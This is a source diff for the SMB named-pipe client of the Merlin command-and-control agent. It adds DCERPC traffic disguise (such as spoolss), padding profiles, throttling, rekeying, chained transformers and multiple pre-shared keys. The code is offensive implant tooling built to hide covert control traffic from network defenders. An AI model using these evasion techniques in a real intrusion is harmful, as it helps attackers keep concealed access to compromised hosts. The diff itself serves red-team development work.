@@ -25,14 +25,10 @@ package smb
 
 import (
 	// Standard
-	"bytes"
 	"crypto/sha256"
-	"encoding/binary"
-	"encoding/gob"
 	"fmt"
 	"io"
 	"math"
-	"math/rand"
 	"net"
 	"strconv"
 	"strings"
@@ -52,18 +48,19 @@ import (
 
 	// Internal
 	"github.com/Ne0nd0g/merlin-agent/v2/authenticators"
-	"github.com/Ne0nd0g/merlin-agent/v2/authenticators/none"
-	"github.com/Ne0nd0g/merlin-agent/v2/authenticators/opaque"
+	"github.com/Ne0nd0g/merlin-agent/v2/authenticators/chain"
 	"github.com/Ne0nd0g/merlin-agent/v2/cli"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/padding"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/prekey"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/rekey"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/throttle"
 	"github.com/Ne0nd0g/merlin-agent/v2/core"
+	"github.com/Ne0nd0g/merlin-agent/v2/heap"
+	"github.com/Ne0nd0g/merlin-agent/v2/p2p/dcerpc"
+	"github.com/Ne0nd0g/merlin-agent/v2/p2p/frame"
 	transformer "github.com/Ne0nd0g/merlin-agent/v2/transformers"
-	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encoders/base64"
-	gob2 "github.com/Ne0nd0g/merlin-agent/v2/transformers/encoders/gob"
-	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encoders/hex"
-	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encrypters/aes"
-	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encrypters/jwe"
-	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encrypters/rc4"
-	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encrypters/xor"
+	"github.com/Ne0nd0g/merlin-agent/v2/transformers/chains"
 )
 
 const (
@@ -90,12 +87,17 @@ type Client struct {
 	connection    net.Conn                     // connection the network socket connection used to handle traffic
 	listener      net.Listener                 // listener the network socket connection listening for traffic
 	listenerID    uuid.UUID                    // listenerID the UUID of the listener that this Agent is configured to communicate with
-	paddingMax    int                          // paddingMax the maximum amount of random padding to apply to every Base message
-	psk           string                       // psk the pre-shared key used for encrypting messages until authentication is complete
-	secret        []byte                       // secret the key used to encrypt messages
+	padding       *padding.Profile             // padding selects the amount of random padding added to each Base message
+	throttle      *throttle.Limiter            // throttle limits the rate, in bytes per second, that data is sent
+	rekey         *rekey.Schedule              // rekey tracks when the secret is replaced with a new one derived from it
+	psk           heap.Secret                  // psk the pre-shared key used for encrypting messages until authentication is complete
+	psks          []heap.Secret                // psks is the ordered list of Pre-Shared Keys tried when a message can't be decrypted with the secret
+	reader        *frame.Reader                // reader reads the length-framed messages from the current connection
+	secret        heap.Secret                  // secret the key used to encrypt messages
 	sending       bool                         // sending is a flag that is used to track if the Agent is currently sending a message
-	transformers  []transformer.Transformer    // Transformers an ordered list of transforms (encoding/encryption) to apply when constructing a message
+	transformers  [][]transformer.Transformer  // transformers the chains of transforms (encoding/encryption) to apply when constructing a message; one chain is picked for each message
 	mode          int                          // mode the type of client or communication mode (e.g., BIND or REVERSE)
+	obfuscation   string                       // obfuscation the wrapper used to disguise the named pipe traffic (e.g., dcerpc)
 	sync.Mutex                                 // used to lock the Client when changes are being made by one function or routine
 }
 
@@ -105,10 +107,13 @@ type Config struct {
 	AgentID      uuid.UUID // AgentID the Agent's UUID
 	AuthPackage  string    // AuthPackage the type of authentication the agent should use when communicating with the server
 	ListenerID   uuid.UUID // ListenerID the UUID of the listener that this Agent is configured to communicate with
-	Padding      string    // Padding the max amount of data that will be randomly selected and appended to every message
-	PSK          string    // PSK the Pre-Shared Key secret the agent will use to start authentication
-	Transformers string    // Transformers is an ordered comma seperated list of transforms (encoding/encryption) to apply when constructing a message
+	Padding      string    // Padding the padding profile: the max amount of random data appended to every message (e.g., 4096) or size distributions per message type (e.g., checkin=lognormal:600:0.5;normal:2048:512)
+	Throttle     string    // Throttle the maximum rate, in bytes per second, that data is sent (e.g., 512K); empty is unlimited
+	Rekey        string    // Rekey is the message count and/or interval (e.g., 100,30m) after which a new secret is derived; empty never rekeys
+	PSK          string    // PSK the Pre-Shared Key secret the agent will use to start authentication, or a comma separated, ordered list of them
+	Transformers string    // Transformers is an ordered comma seperated list of transforms (encoding/encryption) to apply when constructing a message; multiple lists separated by a semicolon are chains and one is picked at random for each message
 	Mode         string    // Mode the type of client or communication mode (e.g., BIND or REVERSE)
+	Obfuscation  string    // Obfuscation the wrapper used to disguise the named pipe traffic (e.g., dcerpc or dcerpc:spoolss)
 }
 
 // New instantiates and returns a Client that is constructed from the passed in Config
@@ -136,7 +141,8 @@ func New(config Config) (*Client, error) {
 	}
 
 	client.listenerID = config.ListenerID
-	client.psk = config.PSK
+	client.psks = heap.NewSecrets(clients.PSKs(config.PSK))
+	client.psk = client.psks[0]
 
 	// Parse Address and validate it
 	if len(config.Address) <= 0 {
@@ -162,65 +168,53 @@ func New(config Config) (*Client, error) {
 		client.address = config.Address[0]
 	}
 
+	// Obfuscation
+	if dcerpc.Enabled(config.Obfuscation) {
+		_, err := dcerpc.Lookup(dcerpc.Name(config.Obfuscation))
+		if err != nil {
+			return nil, fmt.Errorf("clients/smb.New(): %s", err)
+		}
+		client.obfuscation = config.Obfuscation
+	} else if config.Obfuscation != "" && strings.ToLower(config.Obfuscation) != "none" {
+		return nil, fmt.Errorf("clients/smb.New(): unhandled obfuscation type: %s", config.Obfuscation)
+	}
+
 	// Set secret for encryption
-	k := sha256.Sum256([]byte(client.psk))
-	client.secret = k[:]
-	cli.Message(cli.DEBUG, fmt.Sprintf("new client PSK: %s", client.psk))
-	cli.Message(cli.DEBUG, fmt.Sprintf("new client Secret: %x", client.secret))
+	k := sha256.Sum256(client.psk.Open())
+	client.secret = heap.NewSecret(k[:])
+	cli.Message(cli.DEBUG, fmt.Sprintf("new client PSK: %s", client.psk.Open()))
+	cli.Message(cli.DEBUG, fmt.Sprintf("new client Secret: %x", client.secret.Open()))
 
-	//Convert Padding from string to an integer
+	// Message padding profile
 	var err error
-	if config.Padding != "" {
-		client.paddingMax, err = strconv.Atoi(config.Padding)
-		if err != nil {
-			return &client, fmt.Errorf("there was an error converting the padding max to an integer:\r\n%s", err)
-		}
-	} else {
-		client.paddingMax = 0
+	client.padding, err = padding.New(config.Padding)
+	if err != nil {
+		return &client, fmt.Errorf("clients/smb.New(): %s", err)
 	}
 
-	// Authenticator
-	switch strings.ToLower(config.AuthPackage) {
-	case "opaque":
-		client.authenticator = opaque.New(config.AgentID)
-	case "none":
-		client.authenticator = none.New(config.AgentID)
-	default:
-		return nil, fmt.Errorf("an authenticator must be provided (e.g., 'opaque'")
+	// Outbound bandwidth throttle
+	client.throttle, err = throttle.New(config.Throttle)
+	if err != nil {
+		return nil, fmt.Errorf("clients/smb.New(): %s", err)
+	}
+
+	// Session rekey schedule
+	client.rekey, err = rekey.New(config.Rekey)
+	if err != nil {
+		return nil, fmt.Errorf("clients/smb.New(): %s", err)
+	}
+
+	// Authenticator, or a comma separated list that is an ordered chain of authenticators that must all succeed (e.g., none,opaque)
+	client.authenticator, err = chain.Select(config.AgentID, config.AuthPackage)
+	if err != nil {
+		return nil, err
 	}
 
 	// Transformers
-	transforms := strings.Split(config.Transformers, ",")
-	for _, transform := range transforms {
-		var t transformer.Transformer
-		switch strings.ToLower(transform) {
-		case "aes":
-			t = aes.NewEncrypter()
-		case "base64-byte":
-			t = base64.NewEncoder(base64.BYTE)
-		case "base64-string":
-			t = base64.NewEncoder(base64.STRING)
-		case "gob-base":
-			t = gob2.NewEncoder(gob2.BASE)
-		case "gob-string":
-			t = gob2.NewEncoder(gob2.STRING)
-		case "hex-byte":
-			t = hex.NewEncoder(hex.BYTE)
-		case "hex-string":
-			t = hex.NewEncoder(hex.STRING)
-		case "jwe":
-			t = jwe.NewEncrypter()
-		case "rc4":
-			t = rc4.NewEncrypter()
-		case "xor":
-			t = xor.NewEncrypter()
-		default:
-			err := fmt.Errorf("clients/smb.New(): unhandled transform type: %s", transform)
-			if err != nil {
-				return nil, err
-			}
-		}
-		client.transformers = append(client.transformers, t)
+	// Multiple transformer chains are separated by a semicolon and one is picked at random for each message
+	client.transformers, err = chains.New(config.Transformers)
+	if err != nil {
+		return nil, fmt.Errorf("clients/smb.New(): %s", err)
 	}
 
 	cli.Message(cli.INFO, "Client information:")
@@ -229,7 +223,9 @@ func New(config Config) (*Client, error) {
 	cli.Message(cli.INFO, fmt.Sprintf("\tListener: %s", client.listenerID))
 	cli.Message(cli.INFO, fmt.Sprintf("\tAuthenticator: %s", client.authenticator))
 	cli.Message(cli.INFO, fmt.Sprintf("\tTransforms: %+v", client.transformers))
-	cli.Message(cli.INFO, fmt.Sprintf("\tPadding: %d", client.paddingMax))
+	cli.Message(cli.INFO, fmt.Sprintf("\tRekey: %s", client.rekey))
+	cli.Message(cli.INFO, fmt.Sprintf("\tPadding: %s", client.padding))
+	cli.Message(cli.INFO, fmt.Sprintf("\tObfuscation: %s", client.obfuscation))
 
 	return &client, nil
 }
@@ -266,11 +262,23 @@ func (client *Client) Authenticate(msg messages.Base) (err error) {
 
 	var authenticated bool
 	// Reset the Agent's PSK
-	k := sha256.Sum256([]byte(client.psk))
+	k := sha256.Sum256(client.psk.Open())
 	client.Lock()
-	client.secret = k[:]
+	client.secret = heap.NewSecret(k[:])
 	client.Unlock()
 
+	// Agree on an ephemeral pre-authentication secret so that the PSK alone can't decrypt the authentication messages
+	if prekey.Enabled() {
+		var secret []byte
+		secret, err = prekey.Agree(client.agentID, client.SendAndWait, string(client.psk.Open()))
+		if err != nil {
+			return
+		}
+		client.Lock()
+		client.secret = heap.NewSecret(secret)
+		client.Unlock()
+	}
+
 	// Repeat until authenticator is complete and Agent is authenticated
 	for {
 		msg, authenticated, err = client.authenticator.Authenticate(msg)
@@ -295,7 +303,8 @@ func (client *Client) Authenticate(msg messages.Base) (err error) {
 			// Don't update the secret if the authenticator returned an empty key
 			if len(key) > 0 {
 				client.Lock()
-				client.secret = key
+				client.secret = heap.NewSecret(key)
+				client.rekey.Reset()
 				client.Unlock()
 			}
 		}
@@ -382,6 +391,9 @@ func (client *Client) Connect() (err error) {
 					return fmt.Errorf("clients/smb.Connect(): there was an error listening on %s: %s", client.address, err)
 				}
 			}
+			if dcerpc.Enabled(client.obfuscation) {
+				client.listener = dcerpc.NewListener(client.listener)
+			}
 			cli.Message(cli.NOTE, fmt.Sprintf("Started %s on %s", client, client.address))
 		}
 
@@ -407,6 +419,17 @@ func (client *Client) Connect() (err error) {
 			err = fmt.Errorf("clients/smb.Connect(): there was an error connecting to %s: %s", client.address, err)
 			return
 		}
+		if dcerpc.Enabled(client.obfuscation) {
+			var conn *dcerpc.Conn
+			conn, err = dcerpc.Client(client.connection, dcerpc.Name(client.obfuscation))
+			if err != nil {
+				_ = client.connection.Close()
+				client.connection = nil
+				err = fmt.Errorf("clients/smb.Connect(): %s", err)
+				return
+			}
+			client.connection = conn
+		}
 		cli.Message(cli.SUCCESS, fmt.Sprintf("Successfully connected to %s at %s", client.address, time.Now().UTC().Format(time.RFC3339)))
 		client.connected <- true
 		err = nil
@@ -419,17 +442,35 @@ func (client *Client) Connect() (err error) {
 // Construct takes in a messages.Base structure that is ready to be sent to the server and runs all the configured transforms
 // on it to encode and encrypt it.
 func (client *Client) Construct(msg messages.Base) (data []byte, err error) {
-	for i := len(client.transformers); i > 0; i-- {
-		if i == len(client.transformers) {
+	// Replace the secret with the next one derived from it when the rekey schedule is due
+	client.Lock()
+	secret := client.secret.Open()
+	if client.authenticated {
+		secret, err = client.rekey.Next(secret)
+		if err != nil {
+			client.Unlock()
+			return nil, fmt.Errorf("clients/smb.Construct(): %s", err)
+		}
+		client.secret = heap.NewSecret(secret)
+	}
+	client.Unlock()
+	index, prefix := transformer.Pick(len(client.transformers))
+	transformers := client.transformers[index]
+	for i := len(transformers); i > 0; i-- {
+		if i == len(transformers) {
 			// First call should always take a Base message
-			data, err = client.transformers[i-1].Construct(msg, client.secret)
+			data, err = transformers[i-1].Construct(msg, secret)
 		} else {
-			data, err = client.transformers[i-1].Construct(data, client.secret)
+			data, err = transformers[i-1].Construct(data, secret)
 		}
 		if err != nil {
 			return nil, fmt.Errorf("clients/smb.Construct(): there was an error calling the transformer construct function: %s", err)
 		}
 	}
+	// The prefix identifies the transformer chain to the server when there is more than one
+	if prefix != nil {
+		data = append(prefix, data...)
+	}
 	return
 }
 
@@ -438,20 +479,40 @@ func (client *Client) Construct(msg messages.Base) (data []byte, err error) {
 func (client *Client) Deconstruct(data []byte) (messages.Base, error) {
 	cli.Message(cli.DEBUG, fmt.Sprintf("clients/smb.Deconstruct(): entering into function with message: %+v", data))
 	//fmt.Printf("Deconstructing %d bytes with key: %x\n", len(data), client.secret)
-	for _, transform := range client.transformers {
+	index, data, err := transformer.Identify(data, len(client.transformers))
+	if err != nil {
+		return messages.Base{}, fmt.Errorf("clients/smb.Deconstruct(): %s", err)
+	}
+	client.Lock()
+	secret, previous, psks := client.secret.Open(), client.rekey.Previous(), client.psks
+	client.Unlock()
+	for _, transform := range client.transformers[index] {
 		//fmt.Printf("Transformer %T: %+v\n", transform, transform)
-		ret, err := transform.Deconstruct(data, client.secret)
+		ret, err := transform.Deconstruct(data, secret)
+		if err != nil && previous != nil {
+			// The server may have constructed the message before it followed the Agent to its latest secret
+			ret, err = transform.Deconstruct(data, previous)
+		}
 		if err != nil {
-			cli.Message(cli.WARN, fmt.Sprintf("clients/smb.Deconstruct(): unable to deconstruct with Agent's secret, retrying with PSK"))
-			// Try to see if the PSK works
-			k := sha256.Sum256([]byte(client.psk))
-			ret, err = transform.Deconstruct(data, k[:])
+			cli.Message(cli.WARN, fmt.Sprintf("clients/smb.Deconstruct(): unable to deconstruct with Agent's secret, retrying with the PSKs"))
+			// Try each PSK in order and keep the first one that works
+			for _, p := range psks {
+				k := sha256.Sum256(p.Open())
+				ret, err = transform.Deconstruct(data, k[:])
+				if err == nil {
+					// If a PSK worked, assume the agent is unauthenticated to the server
+					secret = k[:]
+					client.Lock()
+					client.authenticated = false
+					client.psk = p
+					client.secret = heap.NewSecret(secret)
+					client.Unlock()
+					break
+				}
+			}
 			if err != nil {
 				return messages.Base{}, err
 			}
-			// If the PSK worked, assume the agent is unauthenticated to the server
-			client.authenticated = false
-			client.secret = k[:]
 		}
 		switch ret.(type) {
 		case []uint8:
@@ -505,76 +566,31 @@ func (client *Client) Listen() (returnMessages []messages.Base, err error) {
 	// Wait for the response
 	cli.Message(cli.NOTE, fmt.Sprintf("Listening for incoming messages from %s on %s at %s...", client.connection.RemoteAddr(), client.connection.LocalAddr(), time.Now().UTC().Format(time.RFC3339)))
 
-	var n int
-	var tag uint32
-	var length uint64
-	var buff bytes.Buffer
-	for {
-		respData := make([]byte, 4096)
-
-		n, err = client.connection.Read(respData)
-		cli.Message(cli.DEBUG, fmt.Sprintf("clients/smb.Listen(): Read %d bytes from connection %s at %s", n, client.connection.RemoteAddr(), time.Now().UTC().Format(time.RFC3339)))
-		if err != nil {
-			if err == io.EOF {
-				cli.Message(cli.WARN, fmt.Sprintf("clients/smb.Listen():  received EOF from %s, the Agent's connection has been reset", client.connection.RemoteAddr()))
-				err = nil // Don't return an error when it is EOF because it will increase the max failed checkin count
-				client.connection = nil
-				return
-			} else if strings.Contains(err.Error(), "The pipe has been ended") {
-				cli.Message(cli.WARN, fmt.Sprintf("clients/smb.Listen(): the pipe %s has been ended and the Agent's connection has been reset", client.connection.RemoteAddr()))
-				err = nil // Don't return an error because it will increase the max failed checkin count
-				client.connection = nil
-				return
-			}
-			err = fmt.Errorf("clients/smb.Listen(): there was an error reading the message from the connection with %s: %s", client.connection.RemoteAddr(), err)
+	// Keep one reader for the life of the connection so bytes of the next message that were read with this one aren't lost
+	if !client.reader.Reads(client.connection) {
+		client.reader = frame.NewReader(client.connection)
+	}
+	data, err := client.reader.Next()
+	if err != nil {
+		if err == io.EOF {
+			cli.Message(cli.WARN, fmt.Sprintf("clients/smb.Listen():  received EOF from %s, the Agent's connection has been reset", client.connection.RemoteAddr()))
+			err = nil // Don't return an error when it is EOF because it will increase the max failed checkin count
+			client.connection = nil
 			return
-		}
-
-		// Add the bytes to the buffer
-		n, err = buff.Write(respData[:n])
-		if err != nil {
-			err = fmt.Errorf("clients/smb.Listen(): there was an error writing %d incoming bytes to the local buffer: %s", n, err)
+		} else if strings.Contains(err.Error(), "The pipe has been ended") {
+			cli.Message(cli.WARN, fmt.Sprintf("clients/smb.Listen(): the pipe %s has been ended and the Agent's connection has been reset", client.connection.RemoteAddr()))
+			err = nil // Don't return an error because it will increase the max failed checkin count
 			client.connection = nil
 			return
 		}
-
-		// If this is the first read on the connection determine the tag and data length
-		if tag == 0 {
-			// Ensure we have enough data to read the tag/type which is 4-bytes
-			if buff.Len() < 4 {
-				cli.Message(cli.DEBUG, fmt.Sprintf("clients/smb.Listen(): Need at least 4 bytes in the buffer to read the Type/Tag for TLV but only have %d", buff.Len()))
-				continue
-			}
-			tag = binary.BigEndian.Uint32(respData[:4])
-			if tag != 1 {
-				err = fmt.Errorf("clients/smb.Listen(): Expected a type/tag value of 1 for TLV but got %d", tag)
-				client.connection = nil
-				return
-			}
-		}
-
-		if length == 0 {
-			// Ensure we have enough data to read the Length from TLV which is 8-bytes plus the 4-byte tag/type size
-			if buff.Len() < 12 {
-				cli.Message(cli.DEBUG, fmt.Sprintf("clients/smb.Listen(): Need at least 12 bytes in the buffer to read the Length for TLV but only have %d", buff.Len()))
-				continue
-			}
-			length = binary.BigEndian.Uint64(respData[4:12])
-		}
-
-		// If we've read all the data according to the length provided in TLV, then break the for loop
-		// Type/Tag size is 4-bytes, Length size is 8-bytes for TLV
-		if uint64(buff.Len()) == length+4+8 {
-			cli.Message(cli.DEBUG, fmt.Sprintf("clients/smb.Listen(): Finished reading data length of %d bytes into the buffer and moving forward to deconstruct the data", length))
-			break
-		} else {
-			cli.Message(cli.DEBUG, fmt.Sprintf("clients/smb.Listen(): Read %d of %d bytes into the buffer", buff.Len(), length))
-		}
+		err = fmt.Errorf("clients/smb.Listen(): there was an error reading the message from the connection with %s: %s", client.connection.RemoteAddr(), err)
+		client.connection = nil
+		return
 	}
-	cli.Message(cli.NOTE, fmt.Sprintf("Read %d bytes from connection %s at %s", buff.Len(), client.connection.RemoteAddr(), time.Now().UTC().Format(time.RFC3339)))
+
+	cli.Message(cli.NOTE, fmt.Sprintf("Read %d bytes from connection %s at %s", len(data)+frame.HeaderSize, client.connection.RemoteAddr(), time.Now().UTC().Format(time.RFC3339)))
 	var msg messages.Base
-	// Type/Tag size is 4-bytes, Length size is 8-bytes for a total of 12-bytes for TLV
-	msg, err = client.Deconstruct(buff.Bytes()[12:])
+	msg, err = client.Deconstruct(data)
 	if err != nil {
 		err = fmt.Errorf("clients/smb.Listen(): there was an error deconstructing the data: %s", err)
 		return
@@ -625,9 +641,8 @@ func (client *Client) Send(m messages.Base) (returnMessages []messages.Base, err
 	}
 
 	// Set the message padding
-	if client.paddingMax > 0 {
-		// #nosec G404 -- Random number does not impact security
-		m.Padding = core.RandStringBytesMaskImprSrc(rand.Intn(client.paddingMax))
+	if size := client.padding.Size(m.Type); size > 0 {
+		m.Padding = core.RandStringBytesMaskImprSrc(size)
 	}
 
 	data, err := client.Construct(m)
@@ -642,30 +657,20 @@ func (client *Client) Send(m messages.Base) (returnMessages []messages.Base, err
 		Payload:  data,
 	}
 
-	// Convert messages.Base to gob
+	// Convert messages.Base to gob and add in Tag/Type and Length for TLV
 	// Still need this for agent to agent message encoding
-	delegateBytes := new(bytes.Buffer)
-	err = gob.NewEncoder(delegateBytes).Encode(delegate)
+	outData, err := frame.EncodeDelegate(delegate)
 	if err != nil {
-		err = fmt.Errorf("there was an error encoding the %s message to a gob:\r\n%s", m.Type, err)
+		err = fmt.Errorf("there was an error encoding the %s message: %s", m.Type, err)
 		return
 	}
 
-	// Add in Tag/Type and Length for TLV
-	tag := make([]byte, 4)
-	binary.BigEndian.PutUint32(tag, 1)
-	length := make([]byte, 8)
-	binary.BigEndian.PutUint64(length, uint64(delegateBytes.Len()))
-
-	// Create TLV
-	outData := append(tag, length...)
-	outData = append(outData, delegateBytes.Bytes()...)
-	cli.Message(cli.DEBUG, fmt.Sprintf("clients/smb.Send(): Added Tag: %d and Length: %d to data size of %d\n", tag, uint64(delegateBytes.Len()), len(outData)))
+	cli.Message(cli.DEBUG, fmt.Sprintf("clients/smb.Send(): Added Tag: %d and Length: %d to data size of %d\n", frame.TAG, len(outData)-frame.HeaderSize, len(outData)))
 
 	cli.Message(cli.NOTE, fmt.Sprintf("Sending %s message to %s from %s at %s", m.Type, client.connection.RemoteAddr(), client.connection.LocalAddr(), time.Now().UTC().Format(time.RFC3339)))
 
 	// Write the message
-	cli.Message(cli.DEBUG, fmt.Sprintf("Writing message size: %d to: %s", delegateBytes.Len(), client.connection.RemoteAddr()))
+	cli.Message(cli.DEBUG, fmt.Sprintf("Writing message size: %d to: %s", len(outData), client.connection.RemoteAddr()))
 
 	// Split into fragments of MaxSize
 	fragments := int(math.Ceil(float64(len(outData)) / float64(MaxSize)))
@@ -682,7 +687,7 @@ func (client *Client) Send(m messages.Base) (returnMessages []messages.Base, err
 			stop = (i + 1) * MaxSize
 		}
 		var n int
-		n, err = client.connection.Write(outData[start:stop])
+		n, err = client.throttle.Write(client.connection, outData[start:stop])
 		if err != nil {
 			err = fmt.Errorf("clients/smb.Send(): there was an error writing SMB fragment %d of %d to the connection with %s: %s", i, fragments, client.connection.RemoteAddr(), err)
 			return
@@ -717,8 +722,8 @@ func (client *Client) Get(key string) (value string) {
 	switch strings.ToLower(key) {
 	case "ja3":
 		return ""
-	case "paddingmax":
-		value = strconv.Itoa(client.paddingMax)
+	case "throttle":
+		value = strconv.Itoa(client.throttle.Rate())
 	case "protocol":
 		value = client.String()
 	default:
@@ -727,6 +732,16 @@ func (client *Client) Get(key string) (value string) {
 	return
 }
 
+// Padding returns the profile that selects the amount of random padding added to each Base message
+func (client *Client) Padding() *padding.Profile {
+	return client.padding
+}
+
+// SetPadding replaces the profile that selects the amount of random padding added to each Base message
+func (client *Client) SetPadding(profile *padding.Profile) {
+	client.padding = profile
+}
+
 // Set is a generic function that is used to modify a Client's field values
 func (client *Client) Set(key string, value string) (err error) {
 	cli.Message(cli.DEBUG, fmt.Sprintf("clients/smb.Set(): entering into function with key: %s, value: %s", key, value))
@@ -779,10 +794,17 @@ func (client *Client) Set(key string, value string) (err error) {
 			return fmt.Errorf("clients/smb.Set(): %s", err)
 		}
 		client.listenerID = id
-	case "paddingmax":
-		client.paddingMax, err = strconv.Atoi(value)
+	case "throttle":
+		err = client.throttle.Set(value)
+	case "psk":
+		// The PSK, or ordered list of them, is replaced along with the secret derived from it so the next
+		// authentication uses the new PSK
+		client.psks = heap.NewSecrets(clients.PSKs(value))
+		client.psk = client.psks[0]
+		k := sha256.Sum256(client.psk.Open())
+		client.secret = heap.NewSecret(k[:])
 	case "secret":
-		client.secret = []byte(value)
+		client.secret = heap.NewSecret([]byte(value))
 	default:
 		err = fmt.Errorf("unknown tcp client setting: %s", key)
 	}